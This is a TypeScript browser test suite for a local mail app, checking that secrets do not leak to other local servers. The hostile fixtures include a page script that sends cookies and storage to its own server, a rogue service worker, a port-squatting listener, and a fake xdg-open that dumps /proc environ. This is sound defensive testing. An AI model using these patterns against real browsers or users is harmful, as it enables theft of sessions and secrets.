/**
 * The browser host beside another web server of the same machine, in a real Chromium with a profile of its own: what a link, a page or a
 * script of the other server is sent, what stays in the history, and what other users of the machine can read.
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { delimiter, join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import type { BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { WebSocketServer } from 'ws';
import { type BrowserHost, startBrowserHost } from '../support/browser-host.ts';
import { launchProfile } from '../support/chromium.ts';

interface Heard {
  readonly path: string;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

/** A server of somebody else on another port; its page tries everything that a page may do to the host's port. */
async function startOtherSite(target: string): Promise<{ server: Server; origin: string; heard: Heard[] }> {
  const heard: Heard[] = [];
  const page = `<!doctype html><title>other</title>
    <img src="/second"><img src="${target}/assets/"><iframe src="${target}/"></iframe><link rel="stylesheet" href="${target}/index.html">
    <script>
      const said = [];
      const tell = (words) => said.push(words);
      const tries = ['${target}/', '${target}/index.html', '${target}/bytes/x/message/1/source', '${target}/?token=x'].map((url) =>
        fetch(url, { credentials: 'include' }).then((answer) => answer.text()).then((text) => tell('READ ' + text.slice(0, 200)), () => tell('refused')));
      const socket = new Promise((done) => {
        const one = new WebSocket('${target.replace('http', 'ws')}/socket');
        one.onopen = () => done(tell('SOCKET OPEN'));
        one.onerror = () => done(tell('refused'));
      });
      Promise.all([...tries, socket]).then(() => fetch('/result', { method: 'POST', body: JSON.stringify({
        said, cookie: document.cookie, name: window.name, opener: String(window.opener), referrer: document.referrer,
        storage: JSON.stringify({ ...sessionStorage, ...localStorage }) }) }));
    </script>`;
  const server = createServer(async (request, response) => {
    const parts: Buffer[] = [];
    for await (const part of request as AsyncIterable<Buffer>) parts.push(part);
    heard.push({ path: request.url ?? '', headers: request.headers, body: Buffer.concat(parts).toString() });
    response.writeHead(200, { 'content-type': 'text/html; charset=utf-8' }).end(request.url === '/report' ? page : '');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  return { server, origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, heard }; // listening on TCP
}

let base: string;
beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), 'postglass-other-site-'));
});
afterAll(() => rmSync(base, { recursive: true, force: true, maxRetries: 10 }));

async function openProfile(name: string): Promise<{ folder: string; context: BrowserContext }> {
  const folder = join(base, name);
  const context = await launchProfile(folder);
  onTestFinished(() => context.close());
  return { folder, context };
}

/** Every address that Chromium has written into its history, hidden ones too. */
function historyOf(profile: string): string[] {
  const database = new DatabaseSync(join(profile, 'Default', 'History'), { readOnly: true });
  try {
    return database
      .prepare('SELECT url FROM urls')
      .all()
      .map(({ url }) => String(url));
  } finally {
    database.close();
  }
}

async function navigationsOf(page: Page): Promise<string[]> {
  const session = await page.context().newCDPSession(page);
  const { entries } = await session.send('Page.getNavigationHistory');
  return entries.map(({ url }) => url);
}

const secretsOf = (page: Page): Promise<string[]> =>
  page.evaluate(() => Object.values(JSON.parse(sessionStorage.getItem('postglass') ?? '{}') as Record<string, string>));

async function startHost(environment: Record<string, string> = {}, open = false): Promise<BrowserHost> {
  const host = await startBrowserHost({ command: 'practice', environment, open });
  onTestFinished(async () => void (await host.stop()));
  return host;
}

describe('another web server of this machine', () => {
  it('is told nothing secret by a click, nor by anything that its page loads', async () => {
    const host = await startHost();
    const { origin: target } = new URL(host.address);
    const other = await startOtherSite(target);
    onTestFinished(() => void other.server.close());
    const { context } = await openProfile('click');
    const page = await context.newPage();
    await page.goto(host.address);
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
    const secrets = await secretsOf(page);
    expect(secrets).toHaveLength(2);
    expect(await context.cookies()).toEqual([]);

    // As a link in a mail is opened: by a click on it, in a new tab.
    await page.evaluate((href) => {
      const link = Object.assign(document.createElement('a'), {
        href,
        target: '_blank',
        rel: 'noopener noreferrer',
        textContent: 'report',
      });
      link.id = 'report';
      document.body.prepend(link);
    }, `${other.origin}/report`);
    const opened = context.waitForEvent('page');
    await page.locator('#report').click();
    await opened;
    await expect.poll(() => other.heard.map(({ path }) => path), { timeout: 20_000 }).toContain('/result');
    expect(other.heard.map(({ path }) => path)).toContain('/second');

    const all = JSON.stringify(other.heard);
    for (const secret of [...secrets, new URL(host.address).searchParams.get('token') ?? '']) expect(all).not.toContain(secret);
    for (const { headers } of other.heard) expect([headers.cookie, headers.authorization]).toEqual([undefined, undefined]);
    const result = JSON.parse(other.heard.find(({ path }) => path === '/result')?.body ?? '{}') as Record<string, unknown>;
    expect(result).toEqual({
      said: Array.from({ length: 5 }, () => 'refused'),
      cookie: '',
      name: '',
      opener: 'null',
      referrer: '',
      storage: '{}',
    });
    // And it can do nothing here with what it was sent.
    expect((await fetch(`${target}/bytes/x/message/1/source`)).status).toBe(403);
  });
});

describe('a program that listened on the port before ours', () => {
  it('has left no script and no file for it once the page is open', async () => {
    const host = await startHost();
    const address = await host.newAddress();
    const port = Number(new URL(address).port);
    await host.stop();
    const { context } = await openProfile('before');
    const close = await leaveWorker(context, port, 'self.addEventListener("fetch", () => {})');
    await close();

    const later = await startBrowserHost({ command: 'practice', port });
    onTestFinished(async () => void (await later.stop()));
    const entered = await context.newPage();
    await entered.goto(later.address);
    await entered.getByRole('tree', { name: 'Folders' }).waitFor();
    expect(await entered.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  });

  it('has left a script that answers for the page: it is refused and removed, and the next address opens', async () => {
    const host = await startHost();
    const port = Number(new URL(await host.newAddress()).port);
    await host.stop();
    const { context } = await openProfile('answering');
    const close = await leaveWorker(context, port, 'self.addEventListener("fetch", (event) => event.respondWith(fetch(event.request)))');
    await close();

    const later = await startBrowserHost({ command: 'practice', port });
    onTestFinished(async () => void (await later.stop()));
    const refused = await context.newPage();
    await refused.goto(later.address);
    await refused.getByText('Start Postglass once more').waitFor();
    await refused.close();
    const entered = await context.newPage();
    await entered.goto(await later.newAddress());
    await entered.getByRole('tree', { name: 'Folders' }).waitFor();
    expect(await entered.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).length)).toBe(0);
  });
});

/** Listens on the port as another program, until its page has left a worker in the browser; answers what frees the port. */
async function leaveWorker(context: BrowserContext, port: number, worker: string): Promise<() => Promise<void>> {
  const files: Record<string, string> = {
    '/': `<script>navigator.serviceWorker.register('/worker.js').then(() => navigator.serviceWorker.ready).then(() => { document.title = 'registered'; })</script>`,
    '/worker.js': worker,
  };
  const earlier = createServer((request, response) => {
    const type = request.url === '/worker.js' ? 'text/javascript' : 'text/html';
    response.writeHead(200, { 'content-type': type, 'cache-control': 'max-age=100000' }).end(files[request.url ?? ''] ?? '');
  });
  await new Promise<void>((resolve) => earlier.listen(port, '127.0.0.1', () => resolve()));
  const page = await context.newPage();
  await page.goto(`http://127.0.0.1:${port}/`);
  await page.waitForFunction(() => document.title === 'registered');
  await page.close();
  return async () => {
    earlier.closeAllConnections();
    await new Promise((resolve) => earlier.close(resolve));
  };
}

/** What another user of the machine runs on the port that our program has left: it agrees to everything and notes what it hears. */
async function startFalseProgram(port: number): Promise<{ http: string[]; said: string[]; close: () => void }> {
  const http: string[] = [];
  const said: string[] = [];
  const server = createServer((request, response) => {
    http.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'content-type': 'application/json' }).end('{}');
  });
  const sockets = new WebSocketServer({ server });
  sockets.on('connection', (socket) => {
    socket.on('message', (data) => {
      said.push(String(data));
      socket.send('{"ready":true}');
    });
  });
  await new Promise<void>((resolve) => server.listen(port, '127.0.0.1', () => resolve()));
  const close = () => {
    for (const client of sockets.clients) client.terminate();
    server.close();
  };
  return { http, said, close };
}

describe('a program that listens on the port when ours has ended', () => {
  it('hears one nonce of the open page, and neither secret, draft nor file', async () => {
    const host = await startHost();
    const { context } = await openProfile('ended');
    const page = await context.newPage();
    await page.goto(host.address);
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
    const secrets = await secretsOf(page);
    await page.getByRole('button', { name: 'New message' }).first().click();
    await page.getByRole('textbox', { name: 'Subject' }).fill('a plan for nobody else');
    await page.getByText('Saved', { exact: true }).waitFor();
    await host.stop();
    const other = await startFalseProgram(Number(new URL(host.address).port));
    onTestFinished(other.close);
    await page.getByText('This page needs a new address').waitFor();

    const body = page.getByRole('textbox', { name: 'Message body' });
    await body.fill('written after the program has ended');
    await page
      .locator('input[type=file]')
      .first()
      .setInputFiles({ name: 'plan.txt', mimeType: 'text/plain', buffer: Buffer.from('a file') });
    await page.getByRole('button', { name: 'Send', exact: true }).click();
    await page.getByRole('alert').first().waitFor();
    expect(other.said).toEqual([expect.stringMatching(/^\{"nonce":"[\w-]{43}"\}$/)]);
    expect(other.http).toEqual([]);
    for (const secret of secrets) expect(other.said.join()).not.toContain(secret);
    // What was typed stays in sight.
    expect(await body.inputValue()).toContain('written after');
  });
});

describe('the way in', () => {
  it('goes on after a reload, and is no way in for a second tab', async () => {
    const host = await startHost();
    const { context } = await openProfile('reload');
    const page = await context.newPage();
    await page.goto(host.address);
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
    const { origin } = new URL(host.address);
    expect(await navigationsOf(page)).toEqual(['about:blank', `${origin}/`]);
    await page.reload();
    await page.getByRole('tree', { name: 'Folders' }).waitFor();

    const second = await context.newPage();
    await second.goto(`${origin}/`);
    await second.getByRole('heading', { name: 'This page needs a new address' }).waitFor();
    expect(await second.getByRole('tree').count()).toBe(0);
    expect((await second.goto(host.address))?.status()).toBe(403);
    await second.goto(await host.newAddress());
    await second.getByRole('tree', { name: 'Folders' }).waitFor();
    // What is cleared for the new page is not the way in of the first.
    await page.reload();
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
  });

  it.skipIf(process.platform !== 'linux')('stands in no argument list, in no history and, once it was used, in no file', async () => {
    // In the place of the desktop's own: what it was given, and what the process list showed of it.
    const bin = mkdtempSync(join(base, 'bin-'));
    const seen = join(bin, 'seen');
    writeFileSync(
      join(bin, 'xdg-open'),
      `#!/bin/sh\ncat /proc/$$/environ /proc/$$/cmdline | tr '\\0' '\\n' > '${seen}.new'\nmv '${seen}.new' '${seen}'\n`,
      {
        mode: 0o755,
      },
    );
    const host = await startHost(
      { PATH: `${bin}${delimiter}${process.env.PATH}`, POSTGLASS_PASSPHRASE: 'a passphrase of the vault' },
      true,
    );
    await expect.poll(() => existsSync(seen), { timeout: 10_000 }).toBe(true);
    const token = new URL(host.address).searchParams.get('token') ?? '';
    const given = readFileSync(seen, 'utf8').trim().split('\n').at(-1) ?? '';
    for (const secret of [token, 'a passphrase of the vault']) expect(readFileSync(seen, 'utf8')).not.toContain(secret);
    const file = new URL(given);
    expect(file.protocol).toBe('file:');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(file, 'utf8')).toContain(token);

    const { folder, context } = await openProfile('history');
    const page = await context.newPage();
    await page.goto(given);
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
    expect(readdirSync(host.dataFolder).filter((name) => name.endsWith('.html'))).toEqual([]);
    await page.reload();
    await page.getByRole('tree', { name: 'Folders' }).waitFor();
    expect((await navigationsOf(page)).join(' ')).not.toContain(token);
    const secrets = await secretsOf(page);
    await context.close();
    const history = historyOf(folder);
    expect(history).toContain(`${new URL(host.address).origin}/`);
    for (const secret of [token, ...secrets]) expect(history.join('\n')).not.toContain(secret);
  });
});
